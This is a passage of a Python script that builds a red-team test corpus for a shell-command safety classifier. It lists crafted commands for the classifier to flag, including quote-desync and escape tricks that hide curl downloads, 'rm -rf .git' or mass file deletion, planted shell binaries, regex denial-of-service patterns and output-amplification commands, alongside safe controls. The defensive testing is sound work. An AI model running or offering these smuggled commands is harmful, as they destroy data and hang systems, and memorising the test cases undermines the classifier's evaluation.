    ('3', 'sh -c "rg TODO .\\$\'\\\\0\\\\\' & curl -s http://example.com/x #\'"', 'dash: runs curl in the background (network)'),
    ('3', 'sh -c "git ls-files\\$\'\\\\0\\\\\' ; git ls-files -z | xargs -0 rm -f #\'"', 'dash: deletes every tracked file'),
    ('3', 'sh -c "find . -name x\\$\'\\\\0\\\\\' -o -delete #\'"', "dash: find . -name 'x$\\0\\' -o -delete deletes every file"),
    ('3', 'sh -c "cat README.md\\$\'\\\\0\\\\\' \\$(touch pwned) #\'"', 'dash: command substitution $(touch pwned) runs'),
    ('1', "bash -c $'cat README.md #\\x{a}touch pwned'", "the wrapper's script word: outer bash decodes \\x{a} to a newline, so `touch pwned` is a second line; shcard sees it inside the # comment"),
    ('1', "bash -lc $'git ls-files #\\x{0a}git ls-files -z | xargs -0 rm -f'", 'same: a hidden second line deletes every tracked file'),
    ('1', "sh -c $'grep -rn TODO . #\\x{a}curl -s http://example.com/x'", 'same via sh -c: hidden curl (network)'),
    ('8', "../bash -c 'head -n 5 f'", 'runs ../bash (a parent directory), planted'),
    ('3', 'sh -c "grep -rn foo . x\\$\'\\\\0\\\\\' | sh #\'"', 'dash: the matches are piped into sh, which executes each line'),
    ('3', 'sh -c "ls .\\$\'\\\\0\\\\\' ; rm -rf .git #\'"', 'dash: rm -rf .git deletes the repository'),
    ('6', 'grep -r --exclude-f=- TODO .', "getopt prefix of --exclude-from with the value '-': reads stdin"),
    ('6', 'cd / && ls tmp | grep x --exclude-from=dev/zero', "a pipeline filter's file-valued option, relative to cd /: reads /dev/zero forever"),
    ('regex-dos', "grep -E '(.*)(.*)(.*)(.*)(.*)\\5\\4\\3\\2\\1' README.md", "GNU grep's backreference matcher is super-linear: 300 lines of 130 chars take hours"),
    ('4', 'tree -Po -L out', "tree takes -P's value from the next word and reads o as -o: -P -L, -o out: writes ./out"),
    ('4', 'tree -Io --charset README.md', 'tree: -I takes --charset, -o takes README.md: overwrites README.md with the listing'),
    ('4', 'tree --noreport -Po -I x', 'tree: -P takes -I, -o takes x: writes ./x'),
    ('4', 'tree -aPo -L 1', 'tree: -P takes -L, -o takes 1: writes ./1'),
    ('5', 'bat --paging=never --paging=always f', 'bat (clap): the last --paging wins: on a terminal it starts less and waits for keys'),
    ('5', 'bat --paging never --paging auto README.md', 'bat: last --paging (auto) wins: pages on a terminal'),
    ('5', 'grep -d recurse -d read foo', 'grep: the last -d wins (read): no file operand and not recursive: reads stdin, blocks'),
    ('5', 'grep -r -d skip TODO', 'grep: -d skip after -r turns recursion off: reads stdin, blocks'),
    ('5', 'grep --directories=recurse --directories=skip TODO', 'grep: last --directories wins: reads stdin'),
    ('5', 'grep -R --directories=read -n useState', 'grep: -R then --directories=read: reads stdin'),
    ('6', 'grep -r --exclude-from=- foo .', 'grep reads the exclude list from stdin: blocks'),
    ('6', 'grep --exclude-from - -rn TODO .', 'same with the value as its own word'),
    ('6', 'cd / && grep -r --exclude-from=dev/zero foo tmp', 'the value is relative to cd /: grep reads /dev/zero as its exclude list, never ends'),
    ('6', 'cd / && grep -r --exclude-from=dev/tty foo tmp', 'reads the controlling terminal: waits for keys'),
    ('6', 'cd / && grep -r --exclude-from=proc/self/fd/0 foo tmp', 'reads stdin through /proc/self/fd/0: blocks'),
    ('6', 'cd //dev && grep -r --exclude-from=zero foo /tmp', 'cd //dev passes the /dev check; the value zero is /dev/zero: never ends'),
    ('6', 'cd / && rg --ignore-file dev/zero foo tmp', 'rg reads /dev/zero as an ignore file'),
    ('6', 'cd / && fd --ignore-file dev/zero a tmp', 'fd reads /dev/zero as an ignore file'),
    ('6', 'cd / && ag -U -p dev/zero foo tmp', 'ag reads /dev/zero as path-to-ignore'),
    ('7', 'grep -R foo /dev', "'/dev' without a slash passes names_special: grep -R follows /dev/ptmx and blocks reading it"),
    ('7', 'grep -r foo /proc', "'/proc' without a slash: grep -r over /proc never finishes"),
    ('7', 'grep -r foo /usr/..', "'/usr/..' is the root but is_root() is textual: grep -r over the whole filesystem"),
    ('7', 'rg foo /tmp/..', 'whole filesystem via /tmp/..'),
    ('7', 'cd /bin && cd .. && rg -uuu foo', "cd /bin && cd ..: cwd '/bin/..' is the root: rg over the whole filesystem"),
    ('7', 'cd //proc && grep -r foo', "cd //proc passes the check (not '/proc'); grep -r with no operand searches /proc forever"),
    ('7', 'cd /usr/../dev && grep -R foo', 'cd /usr/../dev passes; grep -R in /dev blocks on ptmx'),
    ('7', 'grep -r TODO ../../../../../../../../../../../../../../../../../../../../', 'a ../ chain climbs to /: whole filesystem'),
    ('7', 'cd ../../../../../../../../../../../../../../../../../../../../ && grep -rn TODO', 'cd into a ../ chain: whole filesystem'),
    ('7', 'find /etc/.. -name x', "'/etc/..' is the root: find walks the whole filesystem (and /proc)"),
    ('7', 'ls -R /var/..', "'/var/..' is the root: ls -R lists the whole filesystem"),
    ('8', "./bash -c 'cat README.md'", "runs the repository's ./bash (planted), not bash"),
    ('8', "node_modules/.bin/sh -c 'ls'", 'runs node_modules/.bin/sh from the project'),
    ('8', ".venv/bin/bash -lc 'git ls-files'", 'runs .venv/bin/bash from the project'),
    ('8', "scripts/zsh -c 'rg TODO .'", 'runs scripts/zsh from the project'),
    ('9', 'git grep foo HEAD~1 | head', 'blobless partial clone: git grep on an old revision lazily fetches the missing blobs from the remote (runs git fetch / git-remote-https, opens a socket)'),
    ('9', 'git --no-pager grep -n TODO main~2', 'same, --no-pager form'),
    ('9', 'git -P grep -c foo HEAD~2 -- a.txt', 'same with a pathspec'),
    ('9', 'git ls-files --with-tree=HEAD~1', 'treeless partial clone: ls-files --with-tree fetches the missing trees (network)'),
    ('fd-dup', 'cat < README.md 0<&2', 'stdin rebound to fd 2, the terminal: cat waits for keys'),
    ('fd-dup', 'sed -n 1,5p < f <&1', 'stdin rebound to fd 1 (the terminal): sed waits for keys'),
    ('fd-dup', 'tail -n 20 < package.json 0<&2', 'tail reads the terminal'),
    ('fd-dup', 'nl < f 0<&2', 'nl reads the terminal'),
    ('fd-dup', 'git ls-files | sort 0<&2', "a filter's stdin rebound to the terminal: sort waits for keys (and ignores the pipe)"),
    ('fd-dup', 'rg -n TODO . | head -n 5 <&2', 'head reads the terminal instead of the pipe'),
    ('fd-dup', 'cat f | wc -l 0<&1', 'wc reads the terminal'),
    ('fd-dup', 'bat -pp < f 0<&2', 'bat reads the terminal'),
    ('stdin-search', 'rg TODO', 'rg with no path searches stdin when stdin is a pipe or file: blocks on an open pipe'),
    ('stdin-search', 'rg -n --no-heading useState', 'same, other options'),
    ('stdin-search', 'rg -i -e foo -e bar', 'same with -e'),
    ('stdin-search', 'ag -U TODO', 'ag searches stdin when it is not a terminal: blocks'),
    ('stdin-search', 'ack TODO', 'ack reads stdin when it is a pipe and no file is named: blocks'),
    ('stdin-search', 'ack -i --column useState', 'same'),
    ('regex-dos', "grep -rn '\\(.*\\)\\(.*\\)\\(.*\\)\\(.*\\)\\4\\3\\2\\1' .", 'same in BRE over the tree'),
    ('regex-dos', "git grep -E '(.*)(.*)(.*)(.*)\\4\\3\\2\\1x' | head", 'git grep has no must-string shortcut: same blow-up'),
    ('amplify', 'nl -w 2000000000 f', 'nl pads every line number to 2e9 columns: gigabytes per line, never finishes'),
    ('amplify', 'cat f | nl -w 1000000000', 'same as a filter'),
    ('amplify', "find . -name f -printf '%2000000000p\\n'", 'find -printf field width: 2 GB per match'),
    ('amplify', "find . -printf '%1000000000f'", 'list: 1 GB per file'),
    ('dollar-continuation', "cat f$\\\n{x:=$'\\x24(touch pwned)'}$\\\n{x@P}", "bash joins $\\<newline>{ into ${: ${x:=...} assigns '$(touch pwned)' and ${x@P} prompt-expands it: runs touch"),
    ('dollar-continuation', "find $\\\n'\\x2ddelete'", "bash joins $\\<newline>' into $': ANSI-C decodes \\x2d: find -delete"),
    ('dollar-continuation', 'cat $\\\n{HOME:0:1}dev$\\\n{HOME:0:1}zero', 'hidden ${HOME:0:1} slices build /dev/zero: cat never ends'),
    ('dollar-continuation', "rg foo . $\\\n'\\x2d-pre=touch'", "bash decodes $'\\x2d-pre=touch': rg runs touch on every file"),
    ('dollar-continuation', "grep -rn TODO . $\\\n'\\x2df-'", 'bash decodes to -f-: grep reads patterns from stdin'),
    ('dollar-continuation', "ls $\\\n{x:=$'\\x24(curl -s http://example.com/x)'}$\\\n{x@P}", 'hidden prompt expansion runs curl (network)'),
    ('dollar-continuation', 'tail -n 5 $\\\n{PWD:0:1}proc$\\\n{PWD:0:1}self$\\\n{PWD:0:1}fd$\\\n{PWD:0:1}0', 'builds /proc/self/fd/0: tail reads stdin'),
    ('dollar-continuation', 'sed -n 1p f$\\\n{IFS:0:1}-i', 'hidden ${IFS:0:1} is a space: bash word-splits f${IFS:0:1}-i into f and -i: sed edits f in place'),
    ('dollar-continuation', 'head -n 3 "f$\\\n{x:=$\'\\x24(touch pwned)\'}$\\\n{x@P}"', 'inside double quotes too: the prompt expansion runs touch'),
    ('1', "ls .$'\\c@\\c' && rm -rf d #'", 'quote desync: bash runs ls . && rm -rf d'),
]
# ---- the second classifier red team (/work/redteam/round2/findings.jsonl; classes F, D', G of
# its report): regular expressions and wildcards whose cost has no bound.  The compile blow-ups
# (F) need no input; D' needs long lines, G long names.
CLASSIFIER_REDTEAM += [
    ('F', "grep -E '((((a{1,100}){1,100}){1,100}){1,100})' README.md", 'glibc regcomp copies each interval: did not finish in 60 s'),
    ('F', "grep -r -E '(((a{1,1000}){1,1000}){1,1000})' .", 'nested intervals: regcomp never finishes'),
    ('F', "git --no-pager grep -E '(((a{1,1000}){1,1000}){1,1000})'", 'git grep compiles with regcomp: never finishes'),
    ('F', "git --no-pager grep 'a{1,1000}{1,1000}{1,1000}x'", "a repository's grep.patternType=extended makes this basic pattern an ERE: never finishes"),
    ('F', "find . -regextype posix-extended -regex '(((a{1,1000}){1,1000}){1,1000})'", 'find -regex compiles with regcomp: never finishes'),
    ('F', "ls | grep -E '(((a{1,1000}){1,1000}){1,1000})'", 'the grep filter: never finishes'),
    ('F', "nl -b p'\\(\\(\\(a\\{1,1000\\}\\)\\{1,1000\\}\\)\\{1,1000\\}\\)' README.md", 'nl -b pREGEX compiles with regcomp: never finishes'),
    ('F', "cat README.md | nl -bp'a\\{1,1000\\}\\{1,1000\\}\\{1,1000\\}'", 'nl filter: never finishes'),
    ('F', "rg --regex-size-limit 100G --dfa-size-limit 100G '(((a{1,1000}){1,1000}){1,1000})' .", 'raised size limits let rg compile for ever'),
    ("D'", "nl -b p'\\(.*\\)\\(.*\\)\\(.*\\)\\(.*\\)\\(.*\\)\\5\\4\\3\\2\\1' big.txt", 'nl matches the backreference by backtracking: did not finish over 300 long lines'),
    ('G', "tree -P '*a*a*a*a*a*a*a*a*a*a*a*a*b'", "tree's wildcard matcher is exponential in '*': did not finish with one 200-byte name"),
    ('G', "tree -I '*a*a*a*a*a*a*a*a*a*a*a*b'", 'did not finish in 60 s with one 120-byte name'),
    ('G', "tree --matchdirs -P '*a*a*a*a*a*a*a*a*a*a*b' src", 'a long directory name: did not finish'),
]

# ---- classifier round 4: what the kernel resolves, what a backtracking engine matches, every
# number bounded.  The repository states (FIFOs in .git, links into other repositories, huge
# ignore files) are built at test time by tests/test_repo.c; these need no repository.
ROUND4 = [
    ('2', "cat alias/../pipe", "the kernel resolves '..' after the link alias: another directory's FIFO"),
    ('2', "grep -r foo usrlink/..", "usrlink -> /usr: usrlink/.. is / (the whole filesystem)"),
    ('2', "cd selflink && grep -r foo ..", "cd is lexical but the process's directory is physical: .. of /proc/self is /proc"),
    ('2', "cd alias && cat ../pipe", "the physical parent of alias"),
    ('2', "grep -r --exclude-from=alias/../zz foo .", "an option's file value resolved by the kernel"),
    ('2', "rg --ignore-file=alias/../zz foo src", "an option's file value resolved by the kernel"),
    ('2', "cd a/../b && ls", "bash's cd tries a/../b as written when the lexical b does not exist"),
    ('2', "cd -P alias && cd -P .. && ls", "cd -P is physical"),
    ('2', "bat -P alias/../z.txt", "bat reads where the kernel leads"),
    ('4', "git ls-files --recurse-submodules", "runs git in every submodule, with the submodule's own core.fsmonitor"),
    ('5', "git ls-files -o --exclude-per-directory=fifo", "a name read in every directory walked: a FIFO there blocks"),
    ('6', "tree --gitignore", "every .gitignore pattern goes through tree's exponential wildcard matcher"),
    ('6', "tree --gitfile=.gitignore src", "the same matcher over the file's patterns"),
    ('8', "grep -P '(?<c>a)\\k<c>' big.txt", "a named backreference: PCRE backtracks without bound"),
    ('8', "grep -P \"(?<c>a)\\k'c'\" big.txt", "a named backreference, quoted spelling"),
    ('8', "grep -P '(?<c>a)\\k{c}' big.txt", "a named backreference, brace spelling"),
    ('8', "grep -P '(a)(b)(c)\\g3' big.txt", "\\g3: a numbered backreference"),
    ('8', "grep -P '(a)\\g{-1}' big.txt", "a relative backreference"),
    ('8', "grep -P '(?P<c>a)(?P=c)' big.txt", "Python-style backreference"),
    ('8', "grep -P '(?<n>a)(?&n)' big.txt", "a subroutine call"),
    ('8', "grep -P 'a(?R)?b' big.txt", "recursion"),
    ('8', "grep -P '(a|b(?1))' big.txt", "a numbered subroutine"),
    ('8', "grep -P '(a+)+$' big.txt", "a quantified group: exponential backtracking"),
    ('8', "rg -P '(a)\\1' .", "rg's PCRE2 engine"),
    ('8', "rg --pcre2 -e '(?P=c)' .", "rg's PCRE2 engine"),
    ('8', "rg --engine=auto '(a)\\1' .", "--engine=auto falls back to PCRE2 for a backreference"),
    ('8', "rg --engine pcre2 'x(?=y)' .", "lookaround in PCRE2"),
    ('8', "rg --auto-hybrid-regex '(a)\\1' .", "the hybrid engine is PCRE2 here"),
    ('8', "ag -U '(a+)+$' .", "ag always matches with PCRE"),
    ('8', "ag -U -G '(a+)+$' foo .", "ag's file-name regex is PCRE too"),
    ('8', "ack '(.*)\\1' .", "ack matches with Perl"),
    ('8', "git --no-pager grep -P '(a)\\1'", "git grep -P: 65 s on a 1.3 MB file"),
    ('8', "git --no-pager grep -P 'a*a*a*a*b'", "polynomial backtracking"),
    ('9', "ag -U -B 2147483647 foo .", "ag's context count: 75 s over 8 small files"),
    ('9', "grep -C 2147483647 foo f", "a context count without a bound"),
    ('9', "grep -99999 foo f", "-NUM is a context count"),
    ('9', "rg -j 100000 foo .", "100000 threads"),
    ('9', "fd --max-results 99999999999 x", "a limit past any bound"),
    ('9', "git --no-pager grep -A 2147483647 foo", "git grep's context"),
    ('9', "tree -L 2147483647", "tree's depth"),
]
for cls, cmd, harm in ROUND4:
    RT("R4-" + cls, cmd, "classifier round 4: " + harm)
# controls: the same tools stay cards where nothing of the above applies
S("grep -P 'def \\w' src/a.py", "def \\w", "src/a.py", "grep -P with a pattern in the safe subset")
S("rg -P 'foo|bar' src", "foo|bar", "src", "rg -P with alternation only")
S("rg 'a+b*' src", "a+b*", "src", "rg's default engine is linear: repetition is fine")
S("ag -U -Q 'a+(' src", "a+(", "src", "ag -Q: a literal")
S("ag -U -B 3 foo src", "foo", "src", "a small context count")
S("grep -5 foo src/a.c", "foo", "src/a.c", "a small -NUM context")
L("git ls-files -o --exclude-per-directory=.gitignore", None, "the standard per-directory name")
R("cd src && cd .. && cat README.md", "src/../README.md", "cd .. after cd: bash's logical cd returns to the start")
R("cat ../README.md", "../README.md", "a leading '..' is judged from the root (no link before it)")

_seen = {c["cmd"] for c in files.get("redteam", [])}
for cls, cmd, harm in CLASSIFIER_REDTEAM:
    if cmd not in _seen:
        _seen.add(cmd)
        RT(cls, cmd, "classifier red team: " + harm)


# ---- the regex-subset and bounds red team (safe subset desyncs, alternation size, the
# automaton blow-up of glibc and GNU matchers, unbounded parallelism)
ROUND5 = [
    ('F1', "grep -P '[[:x]?\\w*\\w*\\w*[cd:][cd]]' h", "[[:x] is a class of '[', ':' and 'x': the stars after it are real (5.5 s over 2.4 MB)"),
    ('F1', "rg -P '[[:x]?(a*)*[cd:]]' h", "a quantified group hidden after [[:x]"),
    ('F1', "ack '[[:ab]\\w*\\w*[:]]' h", "Perl ends the class at the first ]"),
    ('F2', "ack '\\w{ 0,2000}\\w{ 0,2000}\\w{ 0,2000}[cd][cd]' g", "Perl 5.34 reads { 0,2000} as a count (over 10 s on 100 KB)"),
    ('F2', "ack 'a{\t1,3}' g", "a tab before the count"),
    ('F14', "grep -P '" + "|".join(".x%dy" % i for i in range(40)) + "' big", "40 alternatives each tried at every position"),
    ('F14', "rg -P '" + "a" * 300 + "' big", "a 300-byte pattern for a backtracking engine"),
    ('F13', "ack '--ignore-dir=match:\\w*\\w*\\w*\\w*\\w*\\w*[0-9]$' foo .", "a Perl regex tried on every directory name (over 10 s on one name)"),
    ('F13', "ack '--noignore-dir=match:(a*)*b' foo .", "a quantified group on every directory name"),
    ('F16', "grep -ri '[ab]*a" + "[ab]" * 25 + "c' .", "2^25 automaton states: 38 s over 200 KB"),
    ('F16', "git grep -c '[ab]*a" + "[ab]" * 12 + "c' -- .", "glibc's matcher: time exponential in the classes after the star"),
    ('F16', "grep -Ei 'x+y(.|.)(.|.)(.|.)(.|.)(.|.)z' f", "alternatives after a repetition count too"),
    ('F8', "find . -type f -print0 | xargs -0 -r -n 1 -P 0 grep foo", "xargs -P 0: one process per name"),
    ('F8', "find . -type f -print0 | xargs -0 -r -n 1 -P 65 grep foo", "more than 64 processes"),
    ('F8', "git grep --threads 1000 foo", "1000 threads"),
    ('F8', "fd -j 500 x", "500 threads"),
]
for cls, cmd, harm in ROUND5:
    RT("R5-" + cls, cmd, "regex and bounds red team: " + harm)

# ---- the classifier red team's pattern findings (grep's unanchored automaton, grep -w, rg's
# counted Unicode classes, git's wildmatch over `**`)
P16 = "a" + "[ab]" * 16 + "c"
ROUND6 = [
    ('dfa', "grep -i -c '" + P16 + "' ab.txt", "unanchored: the implicit .* makes 16 classes exponential (killed at 5 s over 200 KB)"),
    ('dfa', "grep -c -e x -e '" + P16 + "' ab.txt", "a second -e pattern joins the same automaton"),
    ('dfa', "cat ab.txt | grep -i '" + P16 + "'", "the same pattern as a pipeline filter"),
    ('dfa', "git grep -c '" + P16 + "'", "git grep: glibc's matcher over the same pattern"),
    ('dfa', "find . -name '*.txt' | xargs grep -i '" + P16 + "'", "xargs grep"),
    ('word', "grep -c -w 'a*' min.js", "grep -w retries every start and length: seconds over one 2 KB line"),
    ('word', "grep -rlw 'a*a' .", "grep -w with a repetition, recursive"),
    ('rgcount', "rg -c '\\w*a\\w{300}Q' .", "rg's PikeVM at microseconds per byte: over 1.5 s per 200 KB"),
    ('rgcount', "rg -i '\\pL{40}x' .", "a counted Unicode letter class"),
    ('wildmatch', "git ls-files -o -x '" + "**/a/" * 12 + "**/b'", "git's wildmatch backtracks over each ** against a deep path"),
    ('wildmatch', "git ls-files -o --exclude='**/a/**/a/**/b'", "three ** already cost a second at depth 1,000"),
]
for cls, cmd, harm in ROUND6:
    RT("R6-" + cls, cmd, "pattern red team: " + harm)
S("grep -w foo src/a.c", "foo", "src/a.c", "grep -w with a literal")
T("grep -c -w -E 'a|aa|aaa' f", "grep -w with alternatives of different lengths retries every start")
T("grep -c -w 'a\\|aa' f", "grep -w with a BRE alternative")
T("grep -c -w -e a -e aa f", "grep -w with several patterns is an alternation")
S("grep -c -w -F -e a -e aa f", "a", "f", "grep -w -F: fixed strings")
S("grep -rn 'TODO\\|FIXME' src", "TODO\\|FIXME", "src", "two alternatives")
S("rg '\\w+' src", "\\w+", "src", "rg: an uncounted class")
S("rg 'fn \\w+\\(' src", "fn \\w+\\(", "src", "rg: a function search")
S("rg '\\d{4}-\\d{2}-\\d{2}' src", "\\d{4}-\\d{2}-\\d{2}", "src", "rg: small counts (8 in all)")
L("git ls-files -o -x '**/node_modules/**'", None, "two ** in an exclude")

S("grep -P '[[:alpha:]_]x?' src/a.py", "[[:alpha:]_]x?", "src/a.py", "a POSIX class inside a bracket")
SB("ack --ignore-dir=node_modules 'function f() {' src", "function f() {",
   "a literal brace, a plain directory name", path="src")
S("git --no-pager grep -i 'foo.[ab]x[0-9]' -- src", "foo.[ab]x[0-9]", "src",
  "a few classes, no repetition")
S("grep -i 'foo.*[ab]x[0-9]' -r src", "foo.*[ab]x[0-9]", "src",
  "GNU grep: a few classes after a star (its DFA)")

ROUND7 = [
    ('F4', "grep -r foo /bin /boot /etc /home /lib /opt /srv /usr /var", "naming the children of / walks / but for the pseudo file systems"),
    ('F4', "grep -r foo /usr", "grep -r over /usr alone: killed at 5 s"),
    ('F4', "cd / && grep -rl foo usr etc var", "the same walk, relative to cd /"),
    ('F4', "ack foo /usr", "ack walks /usr"),
    ('F4', "find /usr /var /etc /home /root -type f -exec grep foo {} +", "find walks the system directories"),
    ('F4', "rg foo /etc", "rg over /etc"),
    ('F4', "ls -R /var", "ls -R lists /var"),
    ('F4', "tree /home", "tree walks every home"),
    ('F4', "grep -rn foo /usr/share", "/usr/share: most of /usr"),
    ('F4', "cd /usr && grep -r foo", "grep -r in /usr without a path"),
    ('F4', "find ../../../../../../../../../../../../usr -name x", "a climb judged from the root reaches /usr"),
]
for cls, cmd, harm in ROUND7:
    RT("R7-" + cls, cmd, "volume red team: " + harm)
S("grep -rn foo /usr/include/stdio.h", "foo", "/usr/include/stdio.h", "a file below a system directory")
L("ls /usr", "/usr", "ls without -R opens only /usr")
S("find /usr/include -name 'stdio*'", "stdio*", "/usr/include", "a small directory below /usr")

# ---- round 7, the rest: strings printed for every match, line or entry (a table role, ECHO)
LONG = "x" * 300
ROUND7_ECHO = [
    ('F9', "rg -o -r '" + "$0" * 5 + "' . r.txt", "rg -r '$0'x20000 turned 2 MB into ~80 GB: each $0 repeats the match"),
    ('F9', "rg -o -r '" + LONG + "' . r.txt", "a 300-byte replacement for every match"),
    ('F9', "nl -s '" + LONG + "' r.txt", "nl -s of 60 KB wrote 1.5 GB in 5 s"),
    ('F9', "cat r.txt | cut -c1- --output-delimiter='" + LONG + "'", "cut's output delimiter, every line"),
    ('F9', "rg --field-match-separator='" + LONG + "' foo .", "rg's field separator, every match"),
    ('F9', "rg --context-separator='" + LONG + "' -C1 foo .", "rg's context separator"),
    ('F9', "rg --path-separator='" + LONG + "' --files", "rg's path separator, every component"),
    ('F9', "cat r.txt | grep -H --label='" + LONG + "' foo", "grep's label, every line of standard input"),
    ('F9', "cat r.txt | column -t -o '" + LONG + "'", "column's output separator"),
    ('F9', "find . -printf '" + "%4096p" * 2 + "'", "find -printf widths together (8 MB per entry with 2000)"),
    ('F9', "find . -printf '" + "%p" * 17 + "'", "more than 16 directives: each %p is a whole path"),
    ('F9', "find . -printf '" + LONG + "'", "a 300-byte -printf format, every entry"),
    ('F9', "ls -l --time-style='+%4000Y%4000d'", "strftime widths, every entry"),
    ('F9', "tree -D --timefmt='%4000Y%4000d'", "tree's time format, every entry"),
]
for cls, cmd, harm in ROUND7_ECHO:
    RT("R7-" + cls, cmd, "amplification red team: " + harm)
S("rg -o -r '[$1]' '(\\w+)=' src", "(\\w+)=", "src", "a short replacement with one reference")
R("nl -s ': ' src/a.c", "src/a.c", "nl: a short separator")

# ---- round 8: per-line multipliers written out (the ones that need the directory's sizes --
# sort and column -t, paths per match, bat's gutter and highlighting, links to system
# directories -- are built at test time by tests/test_walks.c and tests/test_repo.c)
ROUND8 = [
    ('N4', "rg -c '\\w*a" + "\\w" * 300 + "Q' .", "300 copies of \\w written out: the same NFA as \\w{300} (1.4-1.7 s over 200 KB)"),
    ('N4', "rg '(\\w\\w){11}' .", "a group's copies times its count: 22 copies"),
    ('N4', "rg -e '" + "\\d" * 9 + "' -e '" + "." * 9 + "' .", "copies counted over all of a command's patterns"),
    ('N1', "nl -ba -w 4096 nlf", "a width pads every line: 1 byte of empty lines became 4,097"),
    ('N1', "cat nlf | nl -ba -w 4096", "the filter form"),
    ('N1', "cat col | column -c 1000", "column pads each entry up to the output width"),
]
for cls, cmd, harm in ROUND8:
    RT("R8-" + cls, cmd, "output red team: " + harm)
S("rg '\\w+\\s+\\w+\\s*=\\s*\\w+\\(.*\\)' src", "\\w+\\s+\\w+\\s*=\\s*\\w+\\(.*\\)", "src", "seven class copies")
R("nl -ba -w 6 src/a.c", "src/a.c", "nl: an ordinary width")
# ---- round 9: rules that looked at the wrong text or unit (a quoted attributes pattern and
# the lines x paths product need a repository: tests/test_repo.c builds them)
ROUND9 = [
    ('P2', "cd sub && git --no-pager grep foo -- '*/../..'", "git removes '..' with the glob component before it: the whole work tree"),
    ('P2', "git --no-pager grep -l foo -- 'sub/?/../..'", "sub/?/../.. is the top of the work tree"),
    ('P2', "git ls-files -m -- 'x*/../../other'", "a '..' after a glob climbs out of the literal directory"),
    ('P3', "find . -type f -exec egrep -c -w 'a*' {} +", "egrep is grep -E: -w with a repetition retries every start (killed at 5 s on 10 KB)"),
    ('P3', "find . -type f -print0 | xargs -0 -r egrep -c -w 'a*'", "the same through xargs"),
    ('P3', "find . -type f -exec egrep -w 'a|aa|aaa' {} +", "-w with alternatives of different lengths"),
    ('P4', "git --no-pager grep -c '" + "a" * 2000 + "Q$'", "glibc runs the pattern from every start: pattern x line (1.6 s on one 210 KB line)"),
    ('P4', "nl -bp'" + "a" * 100 + "Q$' min.js", "nl -bp through glibc's regexec: pattern x line"),
    ('P5', "grep -P -c '" + "a?" * 10 + "a" * 10 + "b' s", "2^10 paths x 31 bytes at every position (1.4 s a MB)"),
    ('P5', "rg -P -c '" + "a?" * 10 + "a" * 10 + "b' .", "the same with rg's PCRE2"),
    ('P5', "git --no-pager grep -P -c '" + "a?" * 10 + "a" * 10 + "b'", "the same with git grep -P"),
    ('P7', "fd '\\w{60}\\s'", "fd uses the regex crate: a counted Unicode class runs at microseconds per byte"),
    ('P7', "fdfind -p '\\w{60}\\s'", "every full path (-p)"),
]
for cls, cmd, harm in ROUND9:
    RT("R9-" + cls, cmd, "round 9: " + harm)
S("git --no-pager grep -n 'def foo(' -- src", "def foo(", "src", "a short pattern for glibc's matcher")
S("git --no-pager grep -n '" + "a" * 100 + "' -- src", "a" * 100, "src", "a long plain literal goes to git's fixed-string matcher")
S("grep -P 'colou?r' src/a.c", "colou?r", "src/a.c", "one '?' in a short pattern")
S("fd '[a-z]{60}' src", "[a-z]{60}", "src", "fd: an ASCII class")
S("find . -type f -exec egrep -c foo {} +", "foo", None, "egrep with a plain pattern", wrapped=False)

import breadth_cases  # noqa: E402  (corpus/breadth.jsonl: the classifier-breadth issue)

breadth_cases.add(case, wrap)


def main():
    n = 0
    for name, rows in files.items():
        with open(os.path.join(OUT, name + ".jsonl"), "w") as f:
            for r in rows:
                f.write(json.dumps(r, ensure_ascii=False) + "\n")
                n += 1
    print("%d cases in %d files" % (n, len(files)))


if __name__ == "__main__":
    main()
